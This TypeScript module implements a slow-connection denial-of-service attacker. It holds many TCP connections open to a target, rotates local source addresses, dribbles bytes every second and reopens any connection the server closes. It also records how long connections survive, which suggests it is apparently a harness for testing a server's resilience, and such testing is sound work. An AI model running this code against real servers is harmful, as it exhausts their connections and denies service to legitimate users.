import net from 'node:net';
import { sleep } from '@tomekeeper/cli-kit';

/** Describes the behavior of an attack's connections. */
export interface Attack {
  /** An origin, such as `http://localhost:8080`. */
  readonly target: string;
  /** Local source addresses, used in turn. */
  readonly from: readonly string[];
  readonly connections: number;
  /** Sent on connection. */
  readonly first?: string;
  /** Sent every second. */
  readonly then?: string;
  /** Reads the response. Without reading, this side does not detect that the server has closed. */
  readonly reads?: boolean;
  /** Does not reopen closed connections. */
  readonly isOnce?: boolean;
}

/** Interval in which closed connections are reopened. */
const REFILL_MS = 500;
const DRIBBLE_MS = 1_000;

/** Holds connections open as long as possible, and reopens closed ones. */
export class Attacker {
  /** Lifetimes in seconds of connections that the server closed. */
  readonly lives: number[] = [];
  /** Total number of opened connections. */
  opened = 0;
  private readonly open = new Map<net.Socket, number>();
  private readonly timers: NodeJS.Timeout[] = [];
  private turn = 0;

  private constructor(private readonly attack: Attack) {}

  static begin(attack: Attack): Attacker {
    const attacker = new Attacker(attack);
    attacker.refill();
    if (!attack.isOnce) attacker.timers.push(setInterval(() => attacker.refill(), REFILL_MS));
    if (attack.then !== undefined)
      attacker.timers.push(setInterval(() => attacker.dribble(), DRIBBLE_MS));
    return attacker;
  }

  /** Lifetime in seconds of the oldest connection, including closed ones. */
  get longest(): number {
    const now = performance.now();
    return Math.max(0, ...this.lives, ...[...this.open.values()].map((at) => (now - at) / 1000));
  }

  get held(): number {
    return this.open.size;
  }

  async stop(): Promise<void> {
    for (const timer of this.timers) clearInterval(timer);
    for (const socket of this.open.keys()) socket.destroy();
    this.open.clear();
    await sleep(0);
  }

  private refill(): void {
    while (this.open.size < this.attack.connections) this.connect();
  }

  private connect(): void {
    const { target, from, first, reads = false } = this.attack;
    const { hostname, port } = new URL(target);
    const localAddress = from[this.turn++ % from.length] ?? '127.0.0.1';
    const socket = net.connect({ host: hostname, port: Number(port), localAddress, family: 4 });
    const began = performance.now();
    this.opened++;
    this.open.set(socket, began);
    socket.on('error', () => undefined);
    if (first !== undefined) socket.write(first);
    if (reads) socket.resume();
    socket.once('close', () => {
      if (this.open.delete(socket)) this.lives.push((performance.now() - began) / 1000);
    });
  }

  private dribble(): void {
    for (const socket of this.open.keys()) socket.write(this.attack.then ?? '');
  }
}
